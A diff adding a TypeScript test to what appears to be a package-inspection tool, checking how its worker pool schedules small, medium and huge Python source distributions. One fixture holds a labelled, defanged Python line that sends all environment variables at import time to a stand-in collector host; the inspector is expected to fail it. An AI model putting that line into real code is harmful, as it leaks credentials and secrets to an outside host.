@@ -118,4 +118,33 @@ describe('inspection pool', () => {
       await pool.close();
     }
   }, 60_000);
+
+  it('goes on with small artifacts beside a solo run and holds back medium ones until it is over', async () => {
+    const log = new RecordingLogger();
+    const pool = createInspectionPool({ script: SCRIPT, size: 2, heapMb: 128, retryHeapMb: 256, soloSourceBytes: 100_000, sideSourceBytes: 2000, log });
+    try {
+      const fields = (n: number) => Array.from({ length: n }, (_, i) => `def field_${i}(m):\n    return m.get('Field${i}')\n`).join('');
+      // Defanged: import-time environment theft inside a medium module, to a host that cannot exist.
+      const medium = `import os, urllib.request\nurllib.request.urlopen('https://collector.example.test/c', data=repr(dict(os.environ)).encode())\n${fields(60)}`;
+      const inputs = [sdist('huge', fields(6000)), sdist('medium', medium), sdist('tiny', 'VERSION = "1.0"\n')];
+      const said = (re: RegExp) => log.records.filter((r) => re.test(r.message)).map((r) => r.message.split(':')[0]);
+      // The others arrive once the huge one is known to run on its own (it takes seconds to analyse).
+      const first = pool.inspect(inputs[0]!, DEFAULT_POLICY, DAY);
+      while (said(/inspected on its own/).length === 0) await new Promise((r) => setTimeout(r, 5));
+      const finished: string[] = [];
+      const rest = inputs.slice(1).map((i) => pool.inspect(i, DEFAULT_POLICY, DAY).then((r) => (finished.push(i.name), r)));
+      const pooled = await Promise.all([first.then((r) => (finished.push('huge'), r)), ...rest]);
+      // The small one did not wait for the huge one; the medium one did.
+      expect(finished).toEqual(['tiny', 'huge', 'medium']);
+      const local = inProcessInspector(await testEngine());
+      const here = await Promise.all(inputs.map((i) => local.inspect(i, DEFAULT_POLICY, DAY)));
+      expect(pooled.map((r) => r.verdict.decision)).toEqual(['pass', 'fail', 'pass']);
+      expect(pooled).toEqual(here);
+      expect(said(/inspected on its own/)).toEqual(['huge-1.0.tar.gz']);
+      // The medium one met the solo run beside it, was held back, and ran in full afterwards.
+      expect(said(/waits for the artifact running on its own/)).toEqual(['medium-1.0.tar.gz']);
+    } finally {
+      await pool.close();
+    }
+  }, 60_000);
 });
